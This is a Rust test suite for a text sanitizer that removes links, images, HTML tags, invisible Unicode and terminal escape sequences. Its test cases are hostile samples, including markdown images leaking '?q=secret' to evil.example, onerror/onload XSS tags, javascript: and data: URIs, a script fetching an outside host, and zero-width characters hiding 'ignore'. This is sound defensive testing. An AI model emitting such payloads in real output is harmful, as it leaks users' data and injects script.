use proptest::prelude::*;
use rstest::rstest;

use super::*;

fn clean(text: &str) -> String {
    sanitize(text, &Links::default())
}

#[rstest]
// Images.
#[case::image("a ![secret](https://evil.example/p.png?q=secret) b", "a secret b")]
#[case::image_without_text("![](https://evil.example/?q=1)", "")]
#[case::image_in_a_link("[![x](https://a.example/1)](https://b.example/2)", "x")]
#[case::image_with_title("![x](https://evil.example 'ti (t) le') y", "x y")]
#[case::image_over_lines("![a\nb](\nhttps://evil.example/?\n\"t\")", "a\nb")]
#[case::image_of_the_same_host("![x](/api/rooms?q=secret)", "x")]
#[case::image_with_angles("![x](<https://evil.example/a b>)", "x")]
#[case::image_by_reference(
    "![alt][ref]\n\n[ref]: https://evil.example/?q=1",
    "! [alt][ref]\n\n[ref] : (link removed)"
)]
#[case::image_by_short_reference(
    "![ref]\n\n[ref]: <https://evil.example/?q=1> 'x'",
    "! [ref]\n\n[ref] : (link removed) 'x'"
)]
#[case::image_in_a_quotation("> ![a][b]\n>\n> [b]: //evil.example", "> ! [a][b]\n>\n> [b] : //evil.example")]
#[case::image_by_invisible_parts("!\u{200B}[x](https://evil.example)", "x")]
#[case::image_behind_a_tag("!<b></b>[x][y]", "! [x][y]")]
#[case::image_of_a_wiki("![[secret.png]]", "! [[secret.png]]")]
// Links.
#[case::link("see [the page](https://evil.example/?q=1).", "see the page.")]
#[case::link_of_the_same_host("[out](/logout)", "out")]
#[case::link_with_script("[x](javascript:alert(1))", "x")]
#[case::link_with_data("[x](data:text/html;base64,AAAA)", "x")]
#[case::link_with_references("[x](&#104;ttps&colon;//evil.example)", "x")]
#[case::definition("[1]: https://evil.example/\n\nSo [1].", "[1] : (link removed)\n\nSo [1].")]
#[case::definition_on_two_lines("[1]:\n  https://evil.example/", "[1] :\n  (link removed)")]
#[case::citation_as_link("So [1](https://evil.example).", "So [1].")]
#[case::address("Go to https://evil.example/a?b=c#d, now.", "Go to (link removed), now.")]
#[case::address_in_parentheses("(see https://a.example/x_(y))", "(see (link removed))")]
#[case::address_in_capitals("HTTPS://EVIL.EXAMPLE/x", "(link removed)")]
#[case::address_without_scheme("www.evil.example/x", "(link removed)")]
#[case::address_of_another_scheme("ssh://evil.example", "(link removed)")]
#[case::automatic("<https://evil.example/?q=1>", "(link removed)")]
#[case::automatic_mail("<mailto:a@evil.example?body=secret>", "(link removed)")]
#[case::address_by_references("&#104;ttps://evil.example", "&amp;#104;(link removed)")]
#[case::colon_by_reference("https&colon;//evil.example", "https&amp;colon;//evil.example")]
#[case::address_with_backslashes(r"https:\/\/evil.example", "(link removed)")]
#[case::latex(r"\href{https://evil.example}{x}", r"\href{(link removed)}{x}")]
// HTML.
#[case::tag("a <img src=https://evil.example/?q=1> b", "a  b")]
#[case::tag_over_lines("<img\nsrc='x'\nonerror=alert(1)>", "")]
#[case::tag_with_slash("<svg/onload=alert(1)>", "")]
#[case::tag_that_is_open("<img src=x onerror=alert(1)", "&lt;img src=x onerror=alert(1)")]
#[case::tag_of_tags("<<b>img src=x>", "&lt;img src=x>")]
#[case::tag_in_a_tag("<im<b>g src=x>", "g src=x>")]
#[case::script("<script>fetch('https://evil.example')</script>", "fetch('(link removed)')")]
#[case::comment("a<!-- x -->b", "ab")]
#[case::style("<style>@import url(//evil.example)</style>", "@import url(//evil.example)")]
#[case::known_tag_in_capitals("<IFRAME>", "")]
#[case::bold("<b>x</b><br/>", "x")]
// What nobody sees.
#[case::tags("a\u{E0041}\u{E0042}b", "ab")]
#[case::directions("a\u{202E}b\u{2066}c\u{2069}", "abc")]
#[case::selectors("a\u{FE01}b\u{E0101}c", "abc")]
#[case::zero_width("ig\u{200B}no\u{2060}re\u{FEFF}\u{AD}", "ignore")]
#[case::colour("\u{1B}[31mred\u{1B}[0m", "red")]
#[case::title("\u{1B}]0;title\u{7}x", "x")]
#[case::terminal_link("\u{1B}]8;;https://evil.example\u{1B}\\text\u{1B}]8;;\u{1B}\\", "text")]
#[case::one_byte_control("\u{9B}31mx\u{9D}0;t\u{9C}y", "xy")]
#[case::sequence_without_end("\u{1B}]8;;secret\nnext", "8;;secret\nnext")]
#[case::controls("a\u{0}b\u{8}c\rd\u{7F}", "abcd")]
#[case::separators("a\u{2028}b\u{85}c", "a\nb\nc")]
fn what_has_an_address_or_is_unseen_goes(#[case] text: &str, #[case] expected: &str) {
    assert_eq!(clean(text), expected);
}

#[rstest]
#[case::citations("It is so [1][2, 3]. And so! And [4]")]
#[case::code("Use `Vec<String>` and `a[1]`, x < y, a <= b, 1 < 2 and a & b; AT&T.")]
#[case::markdown("# Title\n\n* **bold** and _it_\n1. one\n\n| a | b |\n|---|---|\n> quote")]
#[case::words("Note: data: 5 rows. Time 10:30. C:\\Users\\x. Ratio 3:4.")]
#[case::mail("Write to hr@example.org.")]
#[case::emoji("❤\u{FE0F} 👨\u{200D}👩 می\u{200C}خواهم")]
#[case::parentheses("f(x) = (a) and [note] (see page 3)")]
#[case::brackets("[x] done, [ ] open, a[i][j]")]
fn the_rest_stays(#[case] text: &str) {
    assert_eq!(clean(text), text);
}

#[test]
fn links_of_allowed_origins_stay_without_queries() {
    let links = Links::to(["https://docs.example.org/".into()]);
    let clean = |text: &str| sanitize(text, &links);
    let link = "See [the page](https://docs.example.org/a/b.html) and https://docs.example.org/c.";
    assert_eq!(clean(link), link);
    for text in [
        "[x](https://docs.example.org/a?q=secret)",
        "[x](https://docs.example.org.evil.example/a)",
        "[x](https://docs.example.org@evil.example/a)",
        "[x](https://docs.example.org/../a)",
        "[x](http://docs.example.org/a)",
        "![x](https://docs.example.org/a.png)",
        "[![y](https://docs.example.org/a.png)](https://docs.example.org/b)",
    ] {
        assert!(!clean(text).contains("docs.example.org"), "{text} {}", clean(text));
    }
}

#[test]
fn what_never_ends_is_not_held_for_ever() {
    let mut sanitizer = Sanitizer::new(Links::default());
    let mut out = sanitizer.push(&("[".to_owned() + &"word ".repeat(2000)));
    assert!(out.len() >= 8000);
    out += &sanitizer.push("](/evil) <img ");
    out += &sanitizer.push(&"x ".repeat(3000));
    out += &sanitizer.push("src=https://evil.example/>");
    out += &sanitizer.finish();
    assert!(
        !out.contains("](") && !out.contains("<img") && !out.contains("evil.example"),
        "{}",
        &out[..0]
    );
}

fn texts() -> impl Strategy<Value = String> {
    let part = prop::sample::select(vec![
        "!",
        "[",
        "]",
        "(",
        ")",
        "<",
        ">",
        "/",
        ":",
        "//",
        "https",
        "http://",
        "evil.example",
        "www.",
        "img ",
        "src=",
        "a",
        " ",
        "\n",
        "\n\n",
        "\"",
        "'",
        "[1]",
        "](",
        "![",
        "]:",
        "]: ",
        "&",
        "#104;",
        "&#x68;",
        "\u{1B}]",
        "\u{1B}[",
        "\u{7}",
        "\u{200B}",
        "\\",
        "`",
        "b",
        "script",
        "?",
        "data:",
        "x",
        "=",
        "java",
        "script:",
        "onerror",
        "-",
        ">",
        "\u{202E}",
    ]);
    prop::collection::vec(part, 0..40).prop_map(|parts| parts.concat())
}

proptest! {
    #[test]
    fn nothing_with_an_address_is_left(text in texts(), cut in 1_usize..9) {
        let mut sanitizer = Sanitizer::new(Links::default());
        let letters: Vec<char> = text.chars().collect();
        let mut out = String::new();
        for piece in letters.chunks(cut) {
            out += &sanitizer.push(&piece.iter().collect::<String>());
        }
        out += &sanitizer.finish();
        prop_assert!(!out.contains("![") && !out.contains("](") && !out.contains("]:"), "{out:?}");
        prop_assert!(!out.contains("http://") && !out.contains("https://"), "{out:?}");
        let lower = out.to_lowercase();
        prop_assert!(["<img ", "<script>", "<script ", "<a ", "<a>"].iter().all(|tag| !lower.contains(tag)), "{out:?}");
        let unseen = out.contains(['\u{1B}', '\u{200B}', '\u{202E}']);
        prop_assert!(!unseen);
        prop_assert_eq!(sanitize(&text, &Links::default()), out);
    }
}
